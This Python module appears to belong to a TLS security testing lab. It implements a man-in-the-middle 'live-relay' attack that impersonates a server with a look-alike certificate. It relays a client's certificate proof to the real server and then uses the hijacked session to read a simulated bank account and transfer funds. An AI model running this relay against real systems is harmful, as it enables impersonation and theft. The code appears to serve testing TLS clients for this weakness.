"""The leak `live-relay`: mallory relays the proof of a client that does not verify her, while the proof is fresh.

She is a server to this client and at the same time a client of the real server. She makes the two handshakes as alike
as she can: she repeats the client's hello and the real server's messages. Then she pauses the real server's handshake
until the client has sent its Certificate and CertificateVerify, and continues with these. With RSA key transport she
decrypts the client's premaster secret and encrypts the same one for the real server. Then both connections have the
same keys; what the client signed still differs.
"""

import asyncio
import time
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from functools import partial

from attacker import scope
from attacker.attempts import TRANSFER
from attacker.call import FORWARD, LISTEN_INSTEAD, Call, LeakCommand, Parser, add_gateways
from attacker.collected import Sighting
from attacker.leak.mirror import RSA, key_exchange, messages_of, mirror_client, mirror_server, read_hello, simplified
from attacker.moves.make import Loot, fresh_key, look_alike_certificate
from attacker.moves.replay import BankClient, Response, broken_off, outcome_of
from attacker.position.tcp_relay import Forward, listen_at
from lab.address import Address, host_port
from lab.catalogue.leaks import LIVE_RELAY
from lab.catalogue.outcomes import INCONCLUSIVE, NOT_APPLICABLE, NOT_ASKED
from lab.events.log import Reporter
from lab.events.types import PositionLeft, PositionTaken, ProofRelayed, Trouble
from lab.process import whole_number
from lab.tls.bundle import Bundle
from lab.tls.client import Client
from lab.tls.engine import Failed
from lab.tls.flight import Flight, SendCertificate, SendChangeCipherSpec, SendFinished, SendKeyExchange, SendProof
from lab.tls.listener import Listener, RationedReader
from lab.tls.messages import CertificateVerify, ClientHello, ClientKeyExchange, ServerHello, serialize
from lab.tls.proof import Prover
from lab.tls.server import Server
from lab.tls.streams import ConnectionFailed, TlsStream
from lab.tls.versions import TLS13, version_name

RELAY_SECONDS = 10.0
"""The most time for one connection."""
ANSWER_SECONDS = 5.0
"""The most of it for the real server's answer to the proof."""
PATIENCE_SECONDS = 15.0
"""How long the attacker waits for the next connection."""
MAX_CLIENT_BYTES = 1 << 16
CLIENTS_AT_ONCE = 64


@dataclass(frozen=True)
class Impersonation:
    """How mallory does the two things that need a private key.

    `present` makes her server certificate and key from the real server's chain. `prove` makes the proof for the real
    server from the client's proof. The lab's controls use real keys here, and get in.
    """

    present: Callable[[tuple[bytes, ...]], Bundle]
    prove: Callable[[CertificateVerify], Prover]


def look_alike(chain: tuple[bytes, ...]) -> Bundle:
    """A copy of the real certificate for a key of her own."""
    key = fresh_key(chain[0])
    return Bundle((look_alike_certificate(chain[0], key), *chain[1:]), key)


def as_it_is(captured: CertificateVerify) -> Prover:
    """The client's proof, for any challenge."""
    return lambda challenge: captured


WITHOUT_KEYS = Impersonation(look_alike, as_it_is)


async def run(call: Call) -> None:
    """Relays the clients' connections, then tries what they gave.

    It stops after the number of relays in the call, or when no client comes for a while. OutOfScope or AttackerError,
    with nothing left open, if it cannot listen or a server is out of scope.
    """
    reporter, campaign = call.reporter, call.begin(LIVE_RELAY)
    position = LiveRelay(call.arguments.victim, reporter, source=call.arguments.source)
    try:
        reporter.report(PositionTaken(LIVE_RELAY.id, await position.start(call.forwards())))
        await position.wait_for(call.arguments.relays)
    finally:
        await position.close()
    reporter.report(PositionLeft(LIVE_RELAY.id, ()))
    for loot, sighting in position.gained():
        campaign.take(loot, sighting)
    await campaign.use()


class LiveRelay:
    """Listens in the place of servers, and relays each client's proof to the server that the client wanted.

    Mallory goes on from `source`, an address of this machine; empty for any.
    """

    def __init__(
        self, victim: str, reporter: Reporter, impersonation: Impersonation = WITHOUT_KEYS, source: str = ""
    ) -> None:
        self._victim = victim
        self._reporter = reporter
        self._impersonation = impersonation
        self._source = source
        self._gained: list[tuple[Loot, Sighting]] = []
        self._done: asyncio.Queue[None] = asyncio.Queue()
        self._listeners: list[Listener] = []

    async def start(self, forwards: Iterable[Forward]) -> tuple[str, ...]:
        """Listens, and describes where, a line for each forward. OutOfScope or AttackerError."""
        lines = []
        for forward in forwards:
            listen, target = scope.check_listen(*forward.listen), scope.check_target(*forward.target)
            listening = listen_at(listen)
            self._listeners.append(Listener(partial(self._serve, target), CLIENTS_AT_ONCE, MAX_CLIENT_BYTES))
            await self._listeners[-1].open(listening)
            lines.append(f"{host_port(listening.getsockname())} in the place of {target}")
        return tuple(lines)

    async def wait_for(self, relays: int) -> None:
        """Waits until this number of connections has ended, for each at most PATIENCE_SECONDS."""
        try:
            for _ in range(relays):
                async with asyncio.timeout(PATIENCE_SECONDS):
                    await self._done.get()
        except TimeoutError:
            self._reporter.report(Trouble(f"no other client connected within {PATIENCE_SECONDS:.0f} s"))

    async def close(self) -> None:
        """Stops listening and breaks off all connections."""
        for listener in self._listeners:
            await listener.close()

    def gained(self) -> list[tuple[Loot, Sighting]]:
        """The certificates with their proofs: TLS 1.2 first, and ephemeral keys before RSA key transport."""
        return sorted(self._gained, key=lambda one: (one[1].tls, one[1].note))

    async def _serve(self, target: Address, reader: RationedReader, writer: asyncio.StreamWriter) -> None:
        """One client."""
        who = host_port(writer.get_extra_info("peername") or ("", 0))
        try:
            async with asyncio.timeout(RELAY_SECONDS):
                relayed = _Relayed(target, self._victim, self._impersonation, self._source)
                report = await relayed.carry_out(reader, writer)
            self._gained.append(relayed.gained(report))
            self._reporter.report(report)
        except ConnectionFailed as error:
            self._reporter.report(Trouble(f"no proof came from {who}: {error.failed.reason}"))
        except Exception as error:
            reason = str(error) or ("it took too long" if isinstance(error, TimeoutError) else type(error).__name__)
            self._reporter.report(Trouble(f"{who} was not relayed: {reason}"))
        finally:
            self._done.put_nowait(None)


class _Relayed:
    """A client's connection to mallory, and hers to the real server."""

    def __init__(self, target: Address, victim: str, impersonation: Impersonation, source: str) -> None:
        self._target = target
        self._source = source
        self._victim = victim
        self._impersonation = impersonation
        self._client: Client
        self._server: Server

    async def carry_out(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> ProofRelayed:
        """Both handshakes and the requests. ConnectionFailed, TlsError or OSError if the client sends no proof."""
        began = time.perf_counter()
        hello, received = await read_hello(reader)
        real, local = await self._reach(hello)
        client = self._client
        try:
            self._server = server = mirror_server(client, self._impersonation.present(client.peer_chain))
            victim = TlsStream(server, reader, writer)
            await victim.take(server.receive(received))
            await victim.handshake()

            account, moved, failed = await self._go_on(real)
            await victim.close()
        finally:
            await real.close()
        return ProofRelayed(
            client=host_port(writer.get_extra_info("peername")),
            listening=host_port(writer.get_extra_info("sockname")),
            local=local,
            server=str(self._target),
            tls=version_name(client.version or 0),
            key_exchange=key_exchange(client),
            customer=self._victim,
            client_random=client.random.hex(),
            same_keys=client.key_log == server.key_log,
            signed=_before_proof(server),
            checked=_before_proof(client),
            proof=serialize(self._proof()).hex(),
            outcome=NOT_APPLICABLE if client.request is None else outcome_of(account, self._victim, failed),
            alert=None if account else failed.alert,
            alert_by=None if account else failed.sent_by,
            status=account.status if account else None,
            body=account.body if account else None,
            stolen=TRANSFER.amount if moved and moved.status == 200 else 0,
            error=self._error(account, failed),
            milliseconds=round((time.perf_counter() - began) * 1000, 2),
            connection=client.server_random.hex(),
        )

    async def _reach(self, hello: ClientHello) -> tuple[TlsStream, str]:
        """A connection to the real server, whose flight has come, and its own address. ConnectionFailed or OSError."""
        try:
            return await self._connect(hello)
        except ConnectionFailed:
            if not self._client.out_of_reach:
                raise
            return await self._connect(simplified(hello))

    async def _connect(self, hello: ClientHello) -> tuple[TlsStream, str]:
        local = (self._source, 0) if self._source else None
        reader, writer = await asyncio.open_connection(*self._target, local_addr=local)
        self._client = client = mirror_client(hello)
        real = TlsStream(client, reader, writer)
        try:
            await real.until(lambda: client.is_its_turn)
        except BaseException:
            await real.close()
            raise
        return real, host_port(writer.get_extra_info("sockname"))

    def gained(self, report: ProofRelayed) -> tuple[Loot, Sighting]:
        """The loot, and where it was seen."""
        server = self._server
        messages = {message.name: message for message in messages_of(server, "client")}
        certificate, hello = messages["Certificate"], messages["ClientHello"]
        assert isinstance(hello, ClientHello)
        *_, answer = (message for message in messages_of(server, "server") if isinstance(message, ServerHello))
        sighting = Sighting(
            client=report.client,
            server=report.listening,
            tls=report.tls,
            message=serialize(certificate),
            proof=self._proof(),
            transcript=tuple(map(bytes.fromhex, report.signed)),
            client_random=hello.random,
            server_random=answer.random,
            note=f"presented to mallory in the server's place; key exchange {report.key_exchange}",
        )
        return Loot(server.peer_chain, self._proof(), hello), sighting

    async def _go_on(self, real: TlsStream) -> tuple[Response | None, Response | None, Failed]:
        """Ends the handshake with the real server, with what the client has sent, and uses the account."""
        account: Response | None = None
        moved: Response | None = None
        failed = Failed(None, None, f"no answer within {ANSWER_SECONDS:.0f} s")
        try:
            async with asyncio.timeout(ANSWER_SECONDS):
                await real.take(self._client.go_on(self._flight()))
                await real.handshake()
                if self._client.request is not None:
                    host = self._server.server_name or self._target.host
                    bank = BankClient(real, host)
                    account = await bank.account()
                    if account.customer == self._victim:
                        moved = await bank.transfer(TRANSFER)
        except TimeoutError:
            pass
        except Exception as error:
            failed = broken_off(error)
        return account, moved, failed

    def _flight(self) -> Flight:
        """What the client has sent, as far as mallory can send it on."""
        server = self._server
        certificate, proof = SendCertificate(server.peer_chain), SendProof(self._impersonation.prove(self._proof()))
        if self._client.version == TLS13:
            return (certificate, proof, SendFinished())
        exchange = SendKeyExchange()
        if key_exchange(self._client) == RSA:
            # For the same key it is the same message; for another key the secret must be encrypted again.
            same = server.chain[0] == self._client.peer_chain[0]
            exchange = SendKeyExchange(server.premaster, self._encrypted_premaster() if same else None)
        return (certificate, exchange, proof, SendChangeCipherSpec(), SendFinished())

    def _encrypted_premaster(self) -> bytes:
        (exchange,) = (one for one in messages_of(self._server, "client") if isinstance(one, ClientKeyExchange))
        return exchange.encrypted_premaster()

    def _proof(self) -> CertificateVerify:
        """The client's proof; ConnectionFailed if it has sent none."""
        for message in messages_of(self._server, "client"):
            if isinstance(message, CertificateVerify):
                return message
        raise ConnectionFailed(Failed(None, None, "the client sent a certificate and no proof"))

    def _error(self, account: Response | None, failed: Failed) -> str | None:
        if self._client.request is None:
            return NOT_ASKED
        if account:
            return None if account.status == 200 else f"HTTP {account.status}: {account.body}"
        return failed.reason if outcome_of(None, self._victim, failed) == INCONCLUSIVE else None


def _before_proof(engine: Client | Server) -> tuple[str, ...]:
    """The transcript that a proof signs."""
    raws = []
    for entry in engine.transcript.entries:
        if entry.sender == "client" and entry.raw[0] == CertificateVerify.type:
            break
        raws.append(entry.raw.hex())
    return tuple(raws)


def _add_arguments(parser: Parser) -> None:
    add_gateways(parser)
    parser.add_argument("--forward", action="append", required=True, metavar=FORWARD, help=LISTEN_INSTEAD)
    parser.add_argument(
        "--relays", type=whole_number(1, 1000), default=1, metavar="N", help="connections to relay (%(default)s)"
    )


COMMAND = LeakCommand(LIVE_RELAY.how, _add_arguments, run)
